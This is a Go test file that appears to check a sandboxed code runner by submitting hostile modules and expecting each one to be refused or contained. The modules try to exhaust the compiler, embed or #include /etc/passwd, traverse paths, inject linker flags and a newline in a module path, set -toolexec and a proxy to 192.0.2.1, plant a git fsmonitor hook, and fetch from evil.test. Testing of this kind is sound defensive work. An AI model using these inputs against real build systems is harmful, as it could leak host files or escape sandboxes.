package attack_test

import (
	"fmt"
	"strings"

	pb "lineage.dev/runner/internal/gen/lineage/runner/v1"
)

const hello = "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n"

// buildRows attack the compiler, the go command, and what reads a module before them.
func buildRows() []row {
	unbuilt := []want{isUnbuilt}
	unbuiltOrLimited := []want{isUnbuilt, isLimited("memory"), isLimited("cpu"), isLimited("disk")}
	return []row{
		{group: 11, name: "huge-array", start: runs("main.go", "package main\n\nvar x [1 << 48]byte\n\nfunc main() { x[1] = 1 }\n"), wants: unbuilt},
		{group: 11, name: "huge-constant", start: runs("main.go", "package main\n\nconst x = 1 << 100000000\n\nfunc main() { println(x > 0) }\n"), wants: unbuilt},
		{group: 11, name: "exponential-types", start: runs("main.go", exponentialTypes()), wants: append(unbuiltOrLimited, isHarmless)},
		{group: 11, name: "endless-generics", start: runs("main.go", "package main\n\ntype T[P any] struct{ p *P }\n\nfunc f[P any](n int) {\n\tif n > 0 {\n\t\tf[T[P]](n - 1)\n\t}\n}\n\nfunc main() { f[int](9) }\n"), wants: unbuilt},
		{group: 11, name: "deep-nesting", start: runs("main.go", "package main\n\nfunc main() { println("+strings.Repeat("(", 200_000)+"1"+strings.Repeat(")", 200_000)+") }\n"), wants: append(unbuiltOrLimited, isHarmless)},
		{group: 11, name: "endless-type", start: runs("main.go", "package main\n\ntype T [2]T\n\nvar x T\n\nfunc main() { _ = x }\n"), wants: unbuilt},
		{group: 11, name: "large-source", start: runs("main.go", "package main\n\nfunc main() {}\n\n// "+strings.Repeat("x", 9<<20)), wants: unbuilt},
		{group: 11, name: "many-files", start: manyFiles, wants: unbuilt},
		{group: 11, name: "embed-host-file", start: runs("main.go", "package main\n\nimport _ \"embed\"\n\n//go:embed /etc/passwd\nvar x string\n\nfunc main() { println(x) }\n"), wants: unbuilt},
		{group: 11, name: "embed-above", start: runs("main.go", "package main\n\nimport _ \"embed\"\n\n//go:embed ../../../../etc/passwd\nvar x string\n\nfunc main() { println(x) }\n"), wants: unbuilt},
		{group: 11, name: "use-c", start: runs("main.go", "package main\n\n// #include </etc/passwd>\nimport \"C\"\n\nfunc main() {}\n"), wants: unbuilt},
		{group: 11, name: "c-flags", start: runs("main.go", "package main\n\n// #cgo LDFLAGS: -Wl,--dynamic-linker=/work/x -fplugin=x.so\n// int f() { return 1; }\nimport \"C\"\n\nfunc main() { println(C.f()) }\n"), wants: unbuilt},
		{group: 11, name: "cgo-directives", start: runs("main.go", "package main\n\n//go:cgo_import_dynamic system system \"libc.so.6\"\n//go:cgo_ldflag \"-lc\"\n\nfunc main() {}\n"), wants: unbuilt},
		{group: 11, name: "hidden-functions", start: runs("main.go", "package main\n\nimport _ \"unsafe\"\n\n//go:linkname stop runtime.stopTheWorldGC\nfunc stop()\n\nfunc main() { stop() }\n"), wants: unbuilt},
		{group: 11, name: "internal-packages", start: runs("main.go", "package main\n\nimport \"internal/runtime/exithook\"\n\nfunc main() { exithook.Add(exithook.Hook{}) }\n"), wants: unbuilt},
		{group: 11, name: "assembly-escape", start: runs("main.go", "package main\n\nfunc f()\n\nfunc main() { f() }\n", "f_amd64.s", "#include \"/etc/passwd\"\n\nTEXT ·f(SB), $0\n\tRET\n"), wants: unbuilt},
		{group: 11, name: "module-path", start: runs("go.mod", "module \"lesson\\npackagefile lineage.dev/report=/work/x.a\"\n\ngo 1.27\n", "main.go", hello), wants: unbuilt},
		{group: 11, name: "line-directive", start: runs("main.go", "package main\n\n//line /etc/passwd:1\nfunc main() { undefined() }\n"), wants: unbuilt},
		{group: 11, name: "generate", start: runs("main.go", "package main\n\n//go:generate sh -c \"echo ALLOWED > /work/main.go\"\nfunc main() {}\n"), wants: []want{isHarmless}},
		{group: 11, name: "other-toolchain", start: runs("go.mod", "module lesson\n\ngo 1.27\n\ntoolchain go1.99.0\n", "main.go", hello), wants: []want{isHarmless, isUnbuilt}},
		{group: 11, name: "later-language", start: runs("go.mod", "module lesson\n\ngo 1.99\n", "main.go", hello), wants: unbuilt},
		{group: 11, name: "replace-by-root", start: runs("go.mod", "module lesson\n\ngo 1.27\n\nrequire evil.test/x v1.0.0\n\nreplace evil.test/x => /\n", "main.go", "package main\n\nimport _ \"evil.test/x/etc\"\n\nfunc main() {}\n"), wants: unbuilt},
		{group: 11, name: "workspace-file", start: runs("go.work", "go 1.27\n\nuse (\n\t.\n\t/root\n)\n", "main.go", hello), wants: []want{isHarmless, isUnbuilt}},
		{group: 11, name: "tool-settings", start: runs("go.env", "GOFLAGS=-toolexec=/work/evil\nGOPROXY=http://192.0.2.1\nCGO_ENABLED=1\n", "main.go", hello), wants: []want{isHarmless, isUnbuilt}},
		{group: 11, name: "odd-vendor", start: runs("go.mod", "module lesson\n\ngo 1.27\n\nrequire evil.test/x v1.0.0\n", "vendor/modules.txt", "# evil.test/x v1.0.0 => ../../../etc\n## explicit\nevil.test/x\n", "vendor/evil.test/x/x.go", "package x\n", "main.go", "package main\n\nimport _ \"evil.test/x\"\n\nfunc main() {}\n"), wants: unbuilt},
		{group: 12, name: "large-program", start: runs("main.go", largeProgram(160)), wants: []want{isUnbuilt, isLimited("disk"), isLimited("memory")}},
		{group: 12, name: "large-text", start: runs("main.go", "package main\n\nvar x = \""+strings.Repeat("x", 7<<20)+"\"\n\nfunc main() { println(len(x)) }\n"), wants: []want{isHarmless}},
		{group: 20, name: "names-that-leave", play: namesThatLeave, wants: unbuilt},
		{group: 20, name: "names-that-clash", play: namesThatClash, wants: unbuilt},
		{group: 20, name: "git-directory", start: runs("main.go", hello, ".git/config", "[core]\n\tfsmonitor = /work/evil\n", ".git/hooks/post-checkout", "#!/bin/sh\n"), wants: []want{isHarmless}},
		{group: 20, name: "case-clash", start: runs("main.go", hello, "Main.go", "package main\n\nconst other = 1\n"), wants: []want{isHarmless}},
		{group: 31, name: "fetch-module", start: runs("go.mod", "module lesson\n\ngo 1.27\n\nrequire github.com/evil/module v1.0.0\n", "main.go", "package main\n\nimport \"github.com/evil/module\"\n\nfunc main() { module.Do() }\n"), wants: unbuilt},
		{group: 31, name: "fetch-by-proxy", start: runs("go.mod", "module lesson\n\ngo 1.27\n\nrequire 192.0.2.1/evil v0.0.0\n", "main.go", "package main\n\nimport _ \"192.0.2.1/evil\"\n\nfunc main() {}\n"), wants: unbuilt},
		{group: 32, name: "write-caches", args: []string{"caches"}, wants: []want{isRefused}},
		{group: 32, name: "shadow-standard-library", start: runs("go.mod", "module fmt\n\ngo 1.27\n", "main.go", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(1) }\n", "print.go", "package main\n"), wants: []want{isHarmless, isUnbuilt}},
		{group: 33, name: "many-programs", play: manyPrograms, wants: []want{isHarmless}},
		{group: 34, name: "equal-when-joined", play: equalWhenJoined, wants: []want{isHarmless}},
	}
}

func exponentialTypes() string {
	var text strings.Builder
	text.WriteString("package main\n\ntype t0 struct{ a, b int }\n")
	for n := 1; n < 17; n++ {
		fmt.Fprintf(&text, "type t%d struct{ a, b t%d }\n", n, n-1)
	}
	text.WriteString("\nvar x t16\n\nfunc main() { println(&x) }\n")
	return text.String()
}

// largeProgram has this many megabytes of data that are not zero.
func largeProgram(megabytes int) string {
	var text strings.Builder
	text.WriteString("package main\n\n")
	for n := range megabytes / 8 {
		fmt.Fprintf(&text, "var x%d = [8 << 20]byte{1, %d}\n", n, n)
	}
	text.WriteString("\nfunc main() { println(")
	for n := range megabytes / 8 {
		fmt.Fprintf(&text, "x%d[len(x%d)-1]+", n, n)
	}
	text.WriteString("0) }\n")
	return text.String()
}

func manyFiles(*scene) *pb.Start {
	start := module(pb.RunKind_RUN_KIND_RUN, "main.go", hello)
	for n := range 3000 {
		start.Files = append(start.Files, source(fmt.Sprintf("f%d.go", n), "package main\n"))
	}
	return start
}

func namesThatLeave(s *scene) error {
	for _, name := range []string{"../x.go", "/etc/x.go", "a/../../x.go", "a\x00.go", "a\\..\\x.go", "zz_lineage_harness.go", ".", "..", "",
		strings.Repeat("a", 256), "\xff.go", "a//x.go", "./x.go", "dir/"} {
		if problem := isUnbuilt.meets(s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", hello, name, "package main\n"), nil)); problem != "" {
			return fmt.Errorf("%q: %s", name, problem)
		}
	}
	return nil
}

func namesThatClash(s *scene) error {
	for _, names := range [][2]string{{"a", "a/b.go"}, {"main.go/x.go", "b.go"}, {"b.go", "b.go"}} {
		if problem := isUnbuilt.meets(s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", hello, names[0], "package main\n", names[1], "package main\n"), nil)); problem != "" {
			return fmt.Errorf("%q: %s", names, problem)
		}
	}
	return nil
}

// manyPrograms would fill a cache that had no bound; the test of the bound itself is build's. Here none takes another's place.
func manyPrograms(s *scene) error {
	for n := range 6 {
		text := fmt.Sprintf("package main\n\nfunc main() { print(%d) }\n", n)
		h := s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", text), nil)
		if h.err != fmt.Sprint(n) {
			return fmt.Errorf("program %d printed %q: %v", n, h.err, h.end)
		}
	}
	return nil
}

// equalWhenJoined sends two modules whose names and texts are the same when they are written one after the other.
func equalWhenJoined(s *scene) error {
	first := s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", "package main\n\nfunc main() { print(x) }\n", "a.go", "package main\n\nconst x = 1\n", "b.go", "package main\n"), nil)
	second := s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", "package main\n\nfunc main() { print(x) }\n", "a.go", "package main\n", "b.go", "package main\n\nconst x = 1\n"), nil)
	third := s.run(module(pb.RunKind_RUN_KIND_RUN, "main.go", "package main\n\nfunc main() { print(x) }\n", "a.go", "package main\n\nconst x = 2\n", "b.go", "package main\n"), nil)
	if first.err != "1" || second.err != "1" || third.err != "2" {
		return fmt.Errorf("printed %q, %q and %q", first.err, second.err, third.err)
	}
	return nil
}
